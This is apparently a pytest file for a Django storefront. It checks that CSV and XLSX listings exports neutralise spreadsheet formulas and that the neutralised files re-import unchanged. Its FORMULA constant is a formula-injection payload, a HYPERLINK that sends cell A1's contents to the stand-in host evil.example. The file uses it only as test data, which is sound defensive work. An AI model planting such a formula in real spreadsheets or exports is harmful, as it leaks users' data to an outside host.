"""The storefront's listings export neutralises spreadsheet formulas as the fair exports do
(issue 12, item 12, D108), and an exported file still re-imports unchanged."""

from __future__ import annotations

import csv
import io

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from openpyxl import load_workbook

from catalog.models import Product
from tests.catalog.test_imports import run
from tests.factories import ProductFactory

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")'


def _export(client, vendor, file_format):
    response = client.get(f"/api/v1/vendors/{vendor.slug}/listings/export/", {"file": file_format})
    assert response.status_code == 200
    return response.content


def test_csv_export_prefixes_formulas(vendor_client, vendor):
    ProductFactory(vendor=vendor, name=FORMULA, external_id="F-1", description="+84 912 345 678")
    text = _export(vendor_client, vendor, "csv").decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[1][1] == "'" + FORMULA
    assert rows[1][5] == "'+84 912 345 678"


def test_xlsx_export_writes_formulas_as_text(vendor_client, vendor):
    ProductFactory(vendor=vendor, name=FORMULA, external_id="@cmd")
    book = load_workbook(io.BytesIO(_export(vendor_client, vendor, "xlsx")))
    row = next(r for r in book.active.iter_rows(min_row=2))
    assert row[0].value == "'@cmd"
    assert row[1].value == "'" + FORMULA
    assert row[1].data_type == "s"  # text, not a formula a spreadsheet would run


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_a_neutralised_export_reimports_unchanged(
    vendor_client, vendor, file_format, django_capture_on_commit_callbacks
):
    ProductFactory(vendor=vendor, name="=1+1 quả bưởi", external_id="-SKU-7")
    before = list(Product.objects.values("pk", "name", "external_id"))
    body = _export(vendor_client, vendor, file_format)
    file = SimpleUploadedFile(f"export.{file_format}", body)
    job = run(vendor_client, vendor, file, django_capture_on_commit_callbacks)
    assert (job["created"], job["updated"], job["failed"], job["skipped"]) == (0, 0, 0, 1)
    assert list(Product.objects.values("pk", "name", "external_id")) == before
